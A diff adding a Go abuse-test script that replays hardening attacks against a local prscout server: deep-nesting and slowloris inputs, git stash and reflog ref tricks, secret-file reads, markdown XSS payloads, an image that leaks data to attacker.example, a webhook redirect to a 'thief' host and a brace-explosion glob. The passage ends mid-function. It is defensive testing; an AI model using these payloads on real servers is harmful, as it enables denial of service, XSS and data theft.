@@ -1,0 +1,830 @@
+// Command abuse replays the attacks of the hardening issue against a running
+// prscout on loopback and prints one line per class: "held" when the server
+// answered as it should (a quick 4xx or an explained verdict, nothing
+// leaked, nothing followed), "failed" otherwise, "skip" when the class needs
+// something a local run does not have. It then checks that the server is
+// alive, that its RSS is back under -max-rss-mb and that its goroutines are
+// back to the baseline. It exits 1 when a class or a final check failed.
+//
+// It builds its own fixture: a git repository with a main and a feature
+// branch, a branch of large files, committed secret-named files and
+// stashed (uncommitted) work; a fake n8n that records forwards and
+// redirects some of them to a "thief" endpoint. The prscout binary (-bin)
+// runs the local git provider on that repository with API keys, a metrics
+// token and the webhook relay on. The checks look at answers only, so the
+// script can be rerun unchanged when a class is fixed.
+//
+//	go run ./scripts/abuse -bin /tmp/prscout
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"time"
+
+	"github.com/prscout/prscout/bitbucket"
+)
+
+const (
+	apiKey        = "abuse-api-key-0123456789abcdef"
+	metricsToken  = "abuse-metrics-token-0123456789"
+	webhookSecret = "abuse-webhook-secret"
+	forwardToken  = "n8n-header-auth-token"
+	stashMarker   = "STASHED-WORK-NEVER-COMMITTED"
+	secretMarker  = "SECRET-FILE-CONTENT"
+)
+
+var (
+	bin       = flag.String("bin", "", "prscout binary (required)")
+	maxRSSMB  = flag.Int("max-rss-mb", 150, "RSS the server must be back under after the run (MB)")
+	settle    = flag.Duration("settle", 90*time.Second, "how long RSS and goroutines may take to come back")
+	slowAfter = flag.Duration("quick", 5*time.Second, "an answer slower than this is not quick")
+	failures  atomic.Int32
+	out       sync.Mutex
+)
+
+func main() {
+	flag.Parse()
+	if *bin == "" {
+		fmt.Fprintln(os.Stderr, "usage: abuse -bin PRSCOUT_BINARY")
+		os.Exit(2)
+	}
+	work, err := os.MkdirTemp("", "prscout-abuse-")
+	must(err)
+	defer os.RemoveAll(work)
+	repo := filepath.Join(work, "repo")
+	fx := buildRepo(repo)
+
+	n8n := newFakeN8N()
+	defer n8n.close()
+
+	srv := start(*bin, repo, n8n.url())
+	defer srv.stop()
+	srvBase = srv.base
+	baseGoroutines := srv.metric("go_goroutines")
+	fmt.Printf("prscout pid %d on %s; baseline: %.0f goroutines, RSS %d MB\n\n", srv.cmd.Process.Pid, srv.base, baseGoroutines, rssKB(srv.cmd.Process.Pid)/1024)
+
+	// Classes that take long (they wait out the server's timeouts) run in
+	// the background while the others go on.
+	var slow sync.WaitGroup
+	inflightCapped(srv) // first: it needs every in-flight slot free
+	slow.Add(2)
+	go func() { defer slow.Done(); slowBody(srv) }()
+	go func() { defer slow.Done(); slowReader(srv, fx) }()
+
+	nesting(srv)
+	statementsAndParams(srv)
+	needsAndLists(srv, fx)
+	refs(srv, fx)
+	secretPaths(srv, fx)
+	scoutBudget(srv, fx)
+	markdownInjection(srv, fx)
+	webhooks(srv, n8n)
+	metricsProtected(srv)
+	shortAPIKey(*bin, repo)
+	skip("marker-trust", "a forged marker without an identity needs the Bitbucket provider (GET /user)")
+	globs(srv, fx)
+	slow.Wait()
+
+	fmt.Println()
+	finalChecks(srv, baseGoroutines)
+	if n := failures.Load(); n > 0 {
+		fmt.Printf("\n%d check(s) failed\n", n)
+		os.Exit(1)
+	}
+	fmt.Println("\nall classes held")
+}
+
+// report prints one class line.
+func report(held bool, class, format string, args ...any) {
+	out.Lock()
+	defer out.Unlock()
+	word := "held  "
+	if !held {
+		word = "failed"
+		failures.Add(1)
+	}
+	fmt.Printf("%s %-26s %s\n", word, class, fmt.Sprintf(format, args...))
+}
+
+func skip(class, why string) {
+	out.Lock()
+	defer out.Unlock()
+	fmt.Printf("skip   %-26s %s\n", class, why)
+}
+
+// ---- fixture ----
+
+type fixture struct {
+	dir                         string
+	mainSHA, featureSHA, bigSHA string
+	changed                     []string // paths changed on feature
+}
+
+func git(dir string, args ...string) string {
+	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.email=abuse@example.invalid", "-c", "user.name=abuse", "-c", "commit.gpgsign=false"}, args...)...)
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
+	outb, err := cmd.CombinedOutput()
+	if err != nil {
+		must(fmt.Errorf("git %v: %v\n%s", args, err, outb))
+	}
+	return strings.TrimSpace(string(outb))
+}
+
+func write(path, content string) {
+	must(os.MkdirAll(filepath.Dir(path), 0o755))
+	must(os.WriteFile(path, []byte(content), 0o644))
+}
+
+func buildRepo(dir string) fixture {
+	must(os.MkdirAll(dir, 0o755))
+	git(dir, "init", "-q", "-b", "main")
+	write(filepath.Join(dir, "a.go"), "package a\n\nfunc A() int { return 1 }\n")
+	write(filepath.Join(dir, "b.go"), "package a\n\nfunc B() int { return 2 }\n")
+	// Files whose names are secrets: never read, whoever asks.
+	for _, p := range secretFiles {
+		write(filepath.Join(dir, p), secretMarker+"\n")
+	}
+	git(dir, "add", "-A")
+	git(dir, "commit", "-q", "-m", "base")
+	fx := fixture{dir: dir, mainSHA: git(dir, "rev-parse", "HEAD")}
+
+	git(dir, "checkout", "-q", "-b", "feature")
+	write(filepath.Join(dir, "a.go"), "package a\n\nfunc A() int { return 3 }\n")
+	write(filepath.Join(dir, "b.go"), "package a\n\nfunc B() int { return 4 }\n")
+	write(filepath.Join(dir, "src", "pkg", "c.go"), "package pkg\n\nfunc C() int { return 5 }\n")
+	git(dir, "add", "-A")
+	git(dir, "commit", "-q", "-m", "feature")
+	fx.featureSHA = git(dir, "rev-parse", "HEAD")
+	fx.changed = []string{"a.go", "b.go", "src/pkg/c.go"}
+
+	// A branch of many reviewable files (each diff well under the
+	// too_large share of the prompt budget): a big context answer and, with
+	// no scout budget, a scout prompt of megabytes.
+	git(dir, "checkout", "-q", "-b", "big", "main")
+	for i := 0; i < bigFiles; i++ {
+		var b strings.Builder
+		fmt.Fprintf(&b, "package big\n\n")
+		for j := 0; j < 250; j++ {
+			fmt.Fprintf(&b, "var v%03d_%03d = %q\n", i, j, strings.Repeat("x", 56))
+		}
+		write(filepath.Join(dir, "src", "big", fmt.Sprintf("f%03d.go", i)), b.String())
+	}
+	git(dir, "add", "-A")
+	git(dir, "commit", "-q", "-m", "big")
+	fx.bigSHA = git(dir, "rev-parse", "HEAD")
+
+	// Uncommitted work, stashed: must never be served.
+	git(dir, "checkout", "-q", "feature")
+	write(filepath.Join(dir, "a.go"), "package a\n\n// "+stashMarker+"\n")
+	git(dir, "stash", "-q")
+	git(dir, "update-ref", "refs/abuse/hidden", "stash@{0}")
+	return fx
+}
+
+// bigFiles is the number of 20 KB files on the big branch.
+const bigFiles = 200
+
+var secretFiles = []string{
+	"serviceAccountKey.json", "firebase-adminsdk-x1y2z.json", "secrets.toml", "terraform.tfvars",
+	"terraform.tfvars.json", "secring.gpg", "private.asc", "application_default_credentials.json",
+	".config/gh/hosts.yml", "rclone.conf", "local.settings.json", "app.env.local", ".env.production",
+}
+
+// ---- fake n8n ----
+
+type fakeN8N struct {
+	srv, thief *httptest.Server
+	forwards   atomic.Int32
+	stolen     atomic.Int32
+}
+
+func newFakeN8N() *fakeN8N {
+	f := &fakeN8N{}
+	f.thief = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		f.stolen.Add(1)
+	}))
+	f.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		if bytes.Contains(body, []byte("redirect-me")) {
+			http.Redirect(w, r, f.thief.URL+"/collect", http.StatusTemporaryRedirect)
+			return
+		}
+		f.forwards.Add(1)
+	}))
+	return f
+}
+
+func (f *fakeN8N) url() string { return f.srv.URL + "/webhook/pr" }
+func (f *fakeN8N) close()      { f.srv.Close(); f.thief.Close() }
+
+// ---- the server ----
+
+type proc struct {
+	cmd  *exec.Cmd
+	base string
+	logs *bytes.Buffer
+}
+
+func freeAddr() string {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	must(err)
+	defer ln.Close()
+	return ln.Addr().String()
+}
+
+func start(bin, repo, forward string) *proc {
+	addr := freeAddr()
+	cmd := exec.Command(bin, "serve")
+	cmd.Env = append(os.Environ(),
+		"PRSCOUT_ADDR="+addr, "PRSCOUT_LOG_LEVEL=error", "PRSCOUT_LOCAL_ROOT="+repo,
+		"PRSCOUT_API_KEYS="+apiKey, "PRSCOUT_METRICS_TOKEN="+metricsToken,
+		"PRSCOUT_WEBHOOK_SECRET="+webhookSecret, "PRSCOUT_FORWARD_URL="+forward, "PRSCOUT_FORWARD_TOKEN="+forwardToken,
+	)
+	logs := &bytes.Buffer{}
+	cmd.Stdout, cmd.Stderr = logs, logs
+	must(cmd.Start())
+	p := &proc{cmd: cmd, base: "http://" + addr, logs: logs}
+	for i := 0; i < 200; i++ {
+		if resp, err := http.Get(p.base + "/healthz"); err == nil {
+			resp.Body.Close()
+			return p
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	must(fmt.Errorf("prscout did not start:\n%s", logs))
+	return nil
+}
+
+func (p *proc) stop() {
+	_ = p.cmd.Process.Signal(syscall.SIGTERM)
+	done := make(chan struct{})
+	go func() { _ = p.cmd.Wait(); close(done) }()
+	select {
+	case <-done:
+	case <-time.After(30 * time.Second):
+		_ = p.cmd.Process.Kill()
+		<-done
+	}
+}
+
+func (p *proc) alive() bool {
+	return p.cmd.ProcessState == nil && p.cmd.Process.Signal(syscall.Signal(0)) == nil
+}
+
+// metric reads one unlabelled sample from /metrics (with the metrics token).
+func (p *proc) metric(name string) float64 {
+	req, _ := http.NewRequest("GET", p.base+"/metrics", nil)
+	req.Header.Set("Authorization", "Bearer "+metricsToken)
+	resp, err := client.Do(req)
+	if err != nil {
+		return -1
+	}
+	defer resp.Body.Close()
+	sc := bufio.NewScanner(resp.Body)
+	sc.Buffer(make([]byte, 1<<20), 1<<20)
+	for sc.Scan() {
+		if v, ok := strings.CutPrefix(sc.Text(), name+" "); ok {
+			f, _ := strconv.ParseFloat(v, 64)
+			return f
+		}
+	}
+	return -1
+}
+
+// rssKB reads VmRSS of /proc/<pid>/status in KiB.
+func rssKB(pid int) int {
+	f, err := os.Open(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		return -1
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	for sc.Scan() {
+		if v, ok := strings.CutPrefix(sc.Text(), "VmRSS:"); ok {
+			n, _ := strconv.Atoi(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")))
+			return n
+		}
+	}
+	return -1
+}
+
+var client = &http.Client{Timeout: 60 * time.Second}
+
+type answer struct {
+	code int
+	body []byte
+	dur  time.Duration
+	err  error
+	hdr  http.Header
+}
+
+func (a answer) json() map[string]any {
+	var m map[string]any
+	_ = json.Unmarshal(a.body, &m)
+	return m
+}
+
+func (a answer) String() string {
+	if a.err != nil {
+		return fmt.Sprintf("no answer after %s (%v)", round(a.dur), a.err)
+	}
+	return fmt.Sprintf("%d in %s", a.code, round(a.dur))
+}
+
+func round(d time.Duration) time.Duration {
+	if d > time.Second {
+		return d.Round(100 * time.Millisecond)
+	}
+	return d.Round(time.Millisecond)
+}
+
+// call sends one request with the API key and reads the whole answer.
+func call(method, path string, body []byte, timeout time.Duration, hdr ...string) answer {
+	ctx, cancel := context.WithTimeout(context.Background(), timeout)
+	defer cancel()
+	req, _ := http.NewRequestWithContext(ctx, method, srvBase+path, bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("X-API-Key", apiKey)
+	for i := 0; i+1 < len(hdr); i += 2 {
+		if hdr[i+1] == "" {
+			req.Header.Del(hdr[i])
+		} else {
+			req.Header.Set(hdr[i], hdr[i+1])
+		}
+	}
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		return answer{dur: time.Since(start), err: err}
+	}
+	defer resp.Body.Close()
+	data, err := io.ReadAll(resp.Body)
+	return answer{code: resp.StatusCode, body: data, dur: time.Since(start), err: err, hdr: resp.Header}
+}
+
+var srvBase string
+
+func post(path string, v any, timeout time.Duration, hdr ...string) answer {
+	data, err := json.Marshal(v)
+	must(err)
+	return call("POST", path, data, timeout, hdr...)
+}
+
+func quick(a answer) bool { return a.err == nil && a.dur < *slowAfter }
+
+// ---- availability ----
+
+func workflow(typ string, params map[string]any) map[string]any {
+	return map[string]any{"name": "abuse", "nodes": []any{map[string]any{"name": "n", "type": typ, "parameters": params}}, "connections": map[string]any{}}
+}
+
+// refusedNode reports whether a validate answer refused its one node
+// (too_deep, too_large) or the export (a problem), and what it said.
+func refusedNode(a answer) (bool, string) {
+	m := a.json()
+	if a.code == http.StatusRequestEntityTooLarge {
+		return true, "413 " + fmt.Sprint(m["message"])
+	}
+	if a.code != 200 || m["ok"] != false {
+		return false, fmt.Sprintf("%s ok=%v", a, m["ok"])
+	}
+	if probs, _ := m["problems"].([]any); len(probs) > 0 {
+		p, _ := probs[0].(map[string]any)
+		return true, "problem: " + fmt.Sprint(p["message"])
+	}
+	nodes, _ := m["nodes"].([]any)
+	if len(nodes) == 0 {
+		return false, "no node result"
+	}
+	n, _ := nodes[0].(map[string]any)
+	v := fmt.Sprint(n["verdict"])
+	return v == "too_deep" || v == "too_large", "verdict " + v
+}
+
+func nesting(srv *proc) {
+	cases := []struct {
+		class string
+		typ   string
+		param map[string]any
+	}{
+		{"nesting-parens", "n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("(", 1_000_000) + "1" + strings.Repeat(")", 1_000_000)}},
+		{"nesting-arrays", "n8n-nodes-base.code", map[string]any{"jsCode": "x = " + strings.Repeat("[", 300_000) + strings.Repeat("]", 300_000)}},
+		{"nesting-objects", "n8n-nodes-base.code", map[string]any{"jsCode": "x = " + strings.Repeat("{a:", 200_000) + "1" + strings.Repeat("}", 200_000)}},
+		{"nesting-expression", "n8n-nodes-base.set", map[string]any{"value": "={{ " + strings.Repeat("(", 1_000_000) + " }}"}},
+		{"nested-blocks-500k", "n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("{", 500_000) + strings.Repeat("}", 500_000)}},
+	}
+	for _, tc := range cases {
+		a := post("/v1/workflows/validate", workflow(tc.typ, tc.param), 150*time.Second)
+		ok, what := refusedNode(a)
+		report(ok && quick(a) && srv.alive(), tc.class, "validate: %s, %s", a, what)
+	}
+}
+
+func statementsAndParams(srv *proc) {
+	a := post("/v1/workflows/validate", workflow("n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("x = x + 1;\n", 2_300_000)}), 250*time.Second)
+	ok, what := refusedNode(a)
+	report(ok && quick(a), "statements-25MB", "validate: %s, %s", a, what)
+
+	depth := 630_000 / len(`{"a":}`)
+	params := strings.Repeat(`{"a":`, depth) + `"={{ 1 }}"` + strings.Repeat("}", depth)
+	body := []byte(`{"name":"abuse","nodes":[{"name":"n","type":"n8n-nodes-base.set","parameters":` + params + `}],"connections":{}}`)
+	before := rssKB(srv.cmd.Process.Pid)
+	a = call("POST", "/v1/workflows/validate", body, 150*time.Second)
+	after := rssKB(srv.cmd.Process.Pid)
+	ok, what = refusedNode(a)
+	report(ok && quick(a) && after-before < 100<<10, "nested-params-630KB", "validate: %s, %s; RSS %d -> %d MB", a, what, before/1024, after/1024)
+}
+
+func needsAndLists(srv *proc, fx fixture) {
+	var b strings.Builder
+	b.WriteString(`{"workspace":"acme","repoSlug":"app","ref":"` + fx.featureSHA + `","files":[{"path":"a.go"}],"scout":{"files":[{"path":"a.go","needs":[`)
+	for i := 0; i < 700_000; i++ {
+		if i > 0 {
+			b.WriteByte(',')
+		}
+		b.WriteString(`"x"`)
+	}
+	b.WriteString(`]}]}}`)
+	body := []byte(b.String())
+	var wg sync.WaitGroup
+	answers := make([]answer, 6)
+	for i := range answers {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			answers[i] = call("POST", "/v1/needs", body, 120*time.Second)
+		}()
+	}
+	wg.Wait()
+	held := true
+	var codes []string
+	for _, a := range answers {
+		msg := fmt.Sprint(a.json()["message"])
+		refused := (a.code == 413 || a.code == 422) && strings.Contains(msg, "PRSCOUT_") || a.code == 429
+		held = held && refused && quick(a)
+		codes = append(codes, a.String())
+	}
+	rss := rssKB(srv.cmd.Process.Pid) / 1024
+	report(held && rss < 2**maxRSSMB, "needs-700k-x6", "needs: %s; %q; RSS %d MB", strings.Join(codes, ", "), firstMessage(answers), rss)
+
+	files := make([]map[string]any, 5000)
+	for i := range files {
+		files[i] = map[string]any{"path": fmt.Sprintf("f%d.go", i), "diff": ""}
+	}
+	a1 := post("/v1/needs", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "scout": "[]"}, 60*time.Second)
+	a2 := post("/v1/merge", map[string]any{"context": map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files}, "results": []any{}}, 60*time.Second)
+	a3 := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "review": "{}", "dryRun": true}, 60*time.Second)
+	namesLimit := func(a answer, field string) bool {
+		m := a.json()
+		return a.code/100 == 4 && m["field"] == field && strings.Contains(fmt.Sprint(m["message"]), "PRSCOUT_") && quick(a)
+	}
+	report(namesLimit(a1, "files") && namesLimit(a2, "files") && namesLimit(a3, "files"), "files-5000", "needs %s, merge %s, comments %s: %q", a1, a2, a3, a1.json()["message"])
+
+	reqs := make([]map[string]any, 5000)
+	for i := range reqs {
+		reqs[i] = map[string]any{"op": "get_file", "path": "a.go"}
+	}
+	a := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "requests": reqs}, 60*time.Second)
+	report(namesLimit(a, "requests"), "batch-5000", "batch: %s: %q", a, a.json()["message"])
+}
+
+func firstMessage(as []answer) string {
+	for _, a := range as {
+		if m := a.json(); m != nil && m["message"] != nil {
+			return fmt.Sprint(m["message"])
+		}
+	}
+	return ""
+}
+
+// trickle opens a connection and sends a request whose body comes one byte
+// per interval; it returns the connection (the caller closes it).
+func trickle(srv *proc, path string, length int) net.Conn {
+	conn, err := net.Dial("tcp", strings.TrimPrefix(srv.base, "http://"))
+	must(err)
+	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: abuse\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", path, apiKey, length)
+	return conn
+}
+
+// slowBody: a body trickled at 1 byte / 5 s must be cut well before 90 s.
+func slowBody(srv *proc) {
+	conn := trickle(srv, "/v1/needs", 1000)
+	defer conn.Close()
+	start := time.Now()
+	done := make(chan string, 1)
+	go func() {
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			done <- "connection closed (" + err.Error() + ")"
+			return
+		}
+		body, _ := io.ReadAll(resp.Body)
+		done <- fmt.Sprintf("%d %s", resp.StatusCode, bytes.TrimSpace(body))
+	}()
+	tick := time.NewTicker(5 * time.Second)
+	defer tick.Stop()
+	for {
+		select {
+		case got := <-done:
+			d := time.Since(start)
+			report(d < 60*time.Second, "slow-body-1B-per-5s", "cut after %s: %.120s", round(d), got)
+			return
+		case <-tick.C:
+			if time.Since(start) > 100*time.Second {
+				report(false, "slow-body-1B-per-5s", "still held after %s", round(time.Since(start)))
+				return
+			}
+			_, _ = conn.Write([]byte(" "))
+		}
+	}
+}
+
+// slowReader: a client that asks for a large answer and never reads it
+// must not hold the server: the write is given up after the write timeout.
+func slowReader(srv *proc, fx fixture) {
+	body, _ := json.Marshal(map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.bigSHA})
+	d := net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
+		return c.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
+	}}
+	conn, err := d.Dial("tcp", strings.TrimPrefix(srv.base, "http://"))
+	must(err)
+	defer conn.Close()
+	fmt.Fprintf(conn, "POST /v1/context HTTP/1.1\r\nHost: abuse\r\nConnection: close\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", apiKey, len(body), body)
+	start := time.Now()
+	// Never read, for longer than the server's write timeout (60s by default).
+	time.Sleep(75 * time.Second)
+	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
+	var got bytes.Buffer
+	_, err = io.Copy(&got, conn)
+	complete := bytes.HasSuffix(got.Bytes(), []byte("0\r\n\r\n")) || bytes.HasSuffix(bytes.TrimSpace(got.Bytes()), []byte("}"))
+	var ne net.Error
+	switch {
+	case errors.As(err, &ne) && ne.Timeout():
+		report(false, "slow-reader", "the server still holds the stalled answer after %s (%d bytes read)", round(time.Since(start)), got.Len())
+	case complete:
+		report(false, "slow-reader", "inconclusive: the whole answer (%d bytes) fit in the socket buffers", got.Len())
+	default:
+		report(true, "slow-reader", "server gave the unread answer up: %d bytes had been sent, then the connection closed (%v)", got.Len(), err)
+	}
+}
+
+// inflightCapped: past PRSCOUT_MAX_INFLIGHT heavy requests, the next gets
+// 429 with Retry-After at once.
+func inflightCapped(srv *proc) {
+	var conns []net.Conn
+	for i := 0; i < 8; i++ {
+		conns = append(conns, trickle(srv, "/v1/context", 100))
+	}
+	time.Sleep(500 * time.Millisecond)
+	a := call("POST", "/v1/needs", []byte(`{}`), 10*time.Second)
+	for _, c := range conns {
+		c.Close()
+	}
+	m := a.json()
+	report(a.code == 429 && a.hdr.Get("Retry-After") != "" && quick(a), "inflight-429", "9th heavy request: %s Retry-After=%q %q", a, a.hdr.Get("Retry-After"), m["message"])
+	time.Sleep(200 * time.Millisecond)
+}
+
+// ---- refs, secrets, prompts, comments ----
+
+func refs(srv *proc, fx fixture) {
+	held := true
+	var notes []string
+	for _, head := range []string{"stash", "refs/stash", "stash@{0}", "HEAD@{1}", "@{-1}", "refs/abuse/hidden", "feature~1", "feature^", "feature:a.go", "--all"} {
+		a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": head}, 30*time.Second)
+		m := a.json()
+		ok := a.code == 400 && m["field"] == "head" && !bytes.Contains(a.body, []byte(stashMarker))
+		if !ok {
+			held = false
+			notes = append(notes, fmt.Sprintf("%s -> %s %v", head, a, m["field"]))
+		}
+	}
+	b := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": "stash", "requests": []any{map[string]any{"op": "get_file", "path": "a.go"}}}, 30*time.Second)
+	if bytes.Contains(b.body, []byte(stashMarker)) {
+		held = false
+		notes = append(notes, "batch at stash served the stashed file")
+	}
+	detail := "stash, refs/stash, stash@{0}, HEAD@{1}, @{-1}, refs/abuse/hidden, ~ ^ : and -- forms: 400 on head, nothing served"
+	if !held {
+		detail = strings.Join(notes, "; ")
+	}
+	report(held, "stash-reflog-refs", "%s", detail)
+
+	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": "HEAD@{upstream}", "head": fx.featureSHA}, 30*time.Second)
+	report(a.code == 400 && a.json()["field"] == "base", "head-upstream-ref", "base HEAD@{upstream}: %s field=%v %q", a, a.json()["field"], a.json()["message"])
+}
+
+func secretPaths(srv *proc, fx fixture) {
+	var reqs []any
+	for _, p := range secretFiles {
+		reqs = append(reqs, map[string]any{"op": "get_file", "path": p})
+	}
+	a := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "requests": reqs}, 30*time.Second)
+	var served []string
+	var res struct {
+		Results []struct {
+			OK   bool   `json:"ok"`
+			Path string `json:"path"`
+		} `json:"results"`
+	}
+	_ = json.Unmarshal(a.body, &res)
+	for _, r := range res.Results {
+		if r.OK {
+			served = append(served, r.Path)
+		}
+	}
+	report(a.code == 200 && len(served) == 0 && len(res.Results) > 0, "secret-paths", "batch of %d secret-named files: %s, served %v", len(secretFiles), a, served)
+}
+
+func scoutBudget(srv *proc, fx fixture) {
+	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.bigSHA}, 120*time.Second)
+	var res struct {
+		ScoutPrompt struct{ System, User string } `json:"scoutPrompt"`
+	}
+	_ = json.Unmarshal(a.body, &res)
+	n := len(res.ScoutPrompt.System) + len(res.ScoutPrompt.User)
+	const budget = 120_000 // the review prompt's default budget (PRSCOUT_MAX_PROMPT_CHARS)
+	report(a.code == 200 && n <= budget, "scout-prompt-budget", "context of %d files x 20 KB: %s, %d bytes, scout prompt %d chars (budget %d)", bigFiles, a, len(a.body), n, budget)
+}
+
+func markdownInjection(srv *proc, fx fixture) {
+	payloads := []string{
+		`<img src=x onerror=alert(document.cookie)>`,
+		`[click](javascript:alert(1))`,
+		`![pixel](https://attacker.example/leak?d=SECRET)`,
+		`@everyone look`,
+	}
+	review := map[string]any{
+		"summary": "Summary " + strings.Join(payloads, " "),
+		"findings": []any{map[string]any{"path": "a.go", "line": 3, "severity": "high", "title": "t " + payloads[0],
+			"body": strings.Join(payloads, "\n")}},
+	}
+	rj, _ := json.Marshal(review)
+	ctx := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA}, 60*time.Second)
+	var c struct {
+		Files json.RawMessage `json:"files"`
+	}
+	_ = json.Unmarshal(ctx.body, &c)
+	a := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": c.Files, "review": string(rj), "dryRun": true}, 60*time.Second)
+	var res struct {
+		Markdown string `json:"markdown"`
+		Inline   []struct {
+			Body string `json:"body"`
+		} `json:"inline"`
+	}
+	_ = json.Unmarshal(a.body, &res)
+	all := res.Markdown
+	for _, in := range res.Inline {
+		all += "\n" + in.Body
+	}
+	var verbatim []string
+	for _, bad := range []string{"<img", "onerror=", "javascript:", "![", "](https://attacker.example", "@everyone"} {
+		if strings.Contains(all, bad) {
+			verbatim = append(verbatim, bad)
+		}
+	}
+	report(a.code == 200 && all != "" && len(verbatim) == 0, "markdown-injection", "comments dry-run: %s; posted verbatim: %q", a, verbatim)
+}
+
+// ---- webhook ----
+
+func hook(body []byte, event, uuid string) answer {
+	return call("POST", "/v1/webhooks/bitbucket", body, 30*time.Second,
+		"X-API-Key", "", "X-Hub-Signature", bitbucket.Sign([]byte(webhookSecret), body), "X-Event-Key", event, "X-Request-UUID", uuid)
+}
+
+func webhooks(srv *proc, n8n *fakeN8N) {
+	redirect := []byte(`{"actor":{},"pullrequest":{"id":7,"title":"redirect-me"},"repository":{"full_name":"acme/app"}}`)
+	a := hook(redirect, "pullrequest:updated", "uuid-redirect")
+	report(a.code == 502 && n8n.stolen.Load() == 0, "webhook-redirect", "n8n answered 307 to another host: relay %s, requests that reached the other host: %d", a, n8n.stolen.Load())
+
+	body := []byte(`{"actor":{},"pullrequest":{"id":8,"title":"replay"},"repository":{"full_name":"acme/app"}}`)
+	before := n8n.forwards.Load()
+	first := hook(body, "pullrequest:updated", "uuid-replay-1")
+	same := hook(body, "pullrequest:updated", "uuid-replay-1")
+	newUUID := hook(body, "pullrequest:updated", "uuid-replay-2")
+	got := n8n.forwards.Load() - before
+	report(first.code == 202 && got == 1, "webhook-replay", "one delivery sent 3 times (same UUID, then a new UUID): forwarded %d time(s); answers %s %v, %s %v, %s %v",
+		got, first, first.json()["status"], same, same.json()["status"], newUUID, newUUID.json()["status"])
+
+	comment := []byte(`{"actor":{},"pullrequest":{"id":9},"repository":{"full_name":"acme/app"},"comment":{"id":1,"content":{"raw":"hi"}}}`)
+	a = hook(comment, "pullrequest:updated", "uuid-mismatch")
+	report(a.code == 400, "webhook-event-key-mismatch", "a comment's signed body under pullrequest:updated: %s %v", a, a.json()["error"])
+}
+
+func metricsProtected(srv *proc) {
+	resp, err := http.Get(srv.base + "/metrics")
+	code := 0
+	if err == nil {
+		code = resp.StatusCode
+		resp.Body.Close()
+	}
+	with := srv.metric("go_goroutines")
+	report(code == 401 && with >= 0, "metrics-without-key", "/metrics with PRSCOUT_METRICS_TOKEN set: %d without the token, readable with it: %v", code, with >= 0)
+}
+
+func shortAPIKey(bin, repo string) {
+	cmd := exec.Command(bin, "serve")
+	cmd.Env = append(os.Environ(), "PRSCOUT_ADDR=0.0.0.0:0", "PRSCOUT_API_KEYS=short-key", "PRSCOUT_LOCAL_ROOT="+repo)
+	outb, err := cmd.CombinedOutput()
+	code := 0
+	var ee *exec.ExitError
+	if errors.As(err, &ee) {
+		code = ee.ExitCode()
+	}
+	msg := strings.TrimSpace(string(outb))
+	report(code == 2 && strings.Contains(msg, "PRSCOUT_API_KEYS"), "short-api-key-off-loopback", "exit %d: %.160s", code, strings.ReplaceAll(msg, "\n", " "))
+}
+
+// ---- globs and the client going away ----
+
+func globs(srv *proc, fx fixture) {
+	// A pattern that matches no changed path makes a backtracking matcher
+	// try every one of the 2^22 brace combinations for each path.
+	glob := strings.Repeat("{,}", 22) + "*.nomatch"
+	base := srv.metric("prscout_http_requests_in_flight")
+	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA, "include": []string{glob}}, 5*time.Second)
+	m := a.json()
+	held := a.err == nil && (a.code == 400 && strings.Contains(fmt.Sprint(m["field"]), "include") || a.code/100 == 2 && a.dur < 2*time.Second)
+	detail := ""
+	if m["message"] != nil {
+		detail = fmt.Sprintf(": field %v, %.100v", m["field"], m["message"])
+	}
+	report(held, "glob-exponential", "include {,}x22*.nomatch on %d changed files: %s%s", len(fx.changed), a, detail)
+
